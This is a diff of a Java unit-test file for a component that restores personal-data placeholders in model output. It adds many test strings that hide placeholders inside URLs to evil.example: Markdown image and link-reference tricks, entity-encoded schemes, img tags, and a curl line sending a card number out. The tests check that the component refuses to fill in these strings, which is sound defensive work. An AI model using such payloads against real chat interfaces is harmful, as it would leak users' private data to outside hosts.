@@ -24,7 +24,7 @@ class RestorerTest {
     private static final PlaceholderForms FORMS = new PlaceholderForms(VALUES);
 
     private static String restored(List<String> pieces) {
-        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v);
+        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v, Restorer.Reader.PAGE);
         StringBuilder out = new StringBuilder();
         for (int i = 0; i < pieces.size(); i++) {
             String piece = pieces.get(i);
@@ -73,7 +73,13 @@ class RestorerTest {
                 "[write](mailto:[PERSON-1])|[write](mailto:Ada \"L\")",
                 "[a](https://x.example/) [PERSON-1]|[a](https://x.example/) Ada \"L\"",
                 "[PERSON-1]: https|Ada \"L\": https",
-                "curl https://x.example/?k=[CREDIT_CARD-1]|curl https://x.example/?k=4111",
+                "[PERSON-1]: [CREDIT_CARD-1]|Ada \"L\": 4111",
+                "<b>[PERSON-1]</b> 1 < 2|<b>Ada \"L\"</b> 1 < 2",
+                "postgres://u:[CREDIT_CARD-1]@db|postgres://u:4111@db",
+                "<mailto:[CREDIT_CARD-1]>|<mailto:4111>",
+                "[t]( <tel:[CREDIT_CARD-1]> )|[t]( <tel:4111> )",
+                "see www.x.example, [PERSON-1]|see www.x.example, Ada \"L\"",
+                "f[0](x) + [CREDIT_CARD-1]|f[0](x) + 4111",
                 "\\\\\\[CREDIT_CARD-1\\]|\\\\\\4111",
             })
     void whatAModelMakesOfAPlaceholderComesBack(String text, String expected) {
@@ -95,6 +101,31 @@ class RestorerTest {
                 "![x]( <HTTP://evil.example/[PERSON-1]>)",
                 "[1]: https://evil.example/[PERSON-1]",
                 "![x](//evil.example/[PERSON-1])",
+                "![](https://evil.example/(a)?k=[PERSON-1])",
+                "![](<https://evil.example/ a?k=[PERSON-1]>)",
+                "![](https://evil.example/>?k=[PERSON-1])",
+                "![](https://evil.example/\\)?k=[PERSON-1])",
+                "![](</\\evil.example/\\>)?k=[PERSON-1]>)",
+                "![](/\\evil.example/?k=[PERSON-1])",
+                "![](\\//evil.example/?k=[PERSON-1])",
+                "![](&#104;ttps://evil.example/?k=[PERSON-1])",
+                "![](evil.example/?k=[PERSON-1])",
+                "![](/a](b)?k=[PERSON-1])",
+                "![](\n/\\evil.example/?k=[PERSON-1])",
+                "![](mailto:a ![](/\\evil.example/?k=[PERSON-1]))",
+                "![](m\\ailto:[PERSON-1])",
+                "[1]: </\\evil.example/ a?k=[PERSON-1]>",
+                "> [1]:\n> /\\evil.example/?k=[PERSON-1]",
+                "[1]: /\\evil.example/]:mailto:[PERSON-1]",
+                "<https://evil.example/?k=[PERSON-1]>",
+                "<img src=\"/\\evil.example/> ?k=[PERSON-1]\">",
+                "<img\nsrc='&#104;ttps:evil.example/\n\n?k=[PERSON-1]'>",
+                "<a href=//evil.example/?k=[PERSON-1]>",
+                "curl https://x.example/?k=[CREDIT_CARD-1]",
+                "(HTTP://x.example/?a=[CREDIT_CARD-9]&k=[CREDIT_CARD-1])",
+                "see&#58;&#104;ttps://evil.example/?k=[PERSON-1]",
+                "www.evil.example/?k=[PERSON-1]",
+                "![](mailto:a](<x)[PERSON-1]",
                 "[PERSON-1)",
                 "[link](http://x)",
                 "a[1] = b[[2]];",
@@ -108,9 +139,42 @@ class RestorerTest {
         assertThat(restored(text)).isEqualTo(text);
     }
 
+    @ParameterizedTest
+    @ValueSource(strings = {"Dear [all]:", "[a](broken", "a <b", "see https://x.example/"})
+    void aBlankLineEndsWhatWasNotClosed(String text) {
+        assertThat(restored(text + "\n \n[PERSON-1]")).endsWith("\n \nAda \"L\"");
+    }
+
+    @Test
+    void aValueIsFollowedLikeAnyOtherText() {
+        PlaceholderForms forms =
+                new PlaceholderForms(
+                        Map.of(
+                                "[URL-1]",
+                                "https://x.example/",
+                                "[SECRET-1]",
+                                "s",
+                                "[CODE-1]",
+                                "a]"));
+        Restorer restorer = new Restorer(forms, new Growth(), v -> v, Restorer.Reader.PAGE);
+        assertThat(restorer.add("[URL-1][SECRET-1] [SECRET-1] [[CODE-1](/\\evil/[SECRET-1]", true))
+                .extracting(Restorer.Change::with)
+                .containsExactly("https://x.example/", "s", "a]");
+    }
+
+    @Test
+    void aToolGetsItsAddressWhole() {
+        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v, Restorer.Reader.TOOL);
+        assertThat(
+                        restorer.add(
+                                "{\"u\":\"https://x.example/\",\"k\":\"[PERSON-1] ![](a/[PERSON-1])",
+                                true))
+                .hasSize(1);
+    }
+
     @Test
     void onlyWhatCanBecomeAPlaceholderIsKeptBack() {
-        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v);
+        Restorer restorer = new Restorer(FORMS, new Growth(), v -> v, Restorer.Reader.PAGE);
         restorer.add("see [", false);
         assertThat(restorer.holds()).isTrue();
         restorer.add("x", false);
@@ -125,7 +189,7 @@ class RestorerTest {
     @ValueSource(longs = {1, 2, 3, 4, 5})
     void cutsNeverMatter(long seed) {
         Random random = new Random(seed);
-        String alphabet = "[]\\_-1PERSONCARDIT x";
+        String alphabet = "[]()<>:/\\_-1PERSONCARDIT x\"=\n";
         for (int run = 0; run < 2_000; run++) {
             StringBuilder text = new StringBuilder();
             while (text.length() < 60) {
@@ -150,7 +214,7 @@ class RestorerTest {
     void aFloodOfPlaceholdersStopsGrowing() {
         PlaceholderForms forms = new PlaceholderForms(Map.of("[SECRET-1]", "s".repeat(4096)));
         Growth growth = new Growth();
-        Restorer restorer = new Restorer(forms, growth, v -> v);
+        Restorer restorer = new Restorer(forms, growth, v -> v, Restorer.Reader.PAGE);
         int growing = 0;
         for (int i = 0; i < 100_000; i++) {
             growing += restorer.add("[SECRET-1]", false).size();
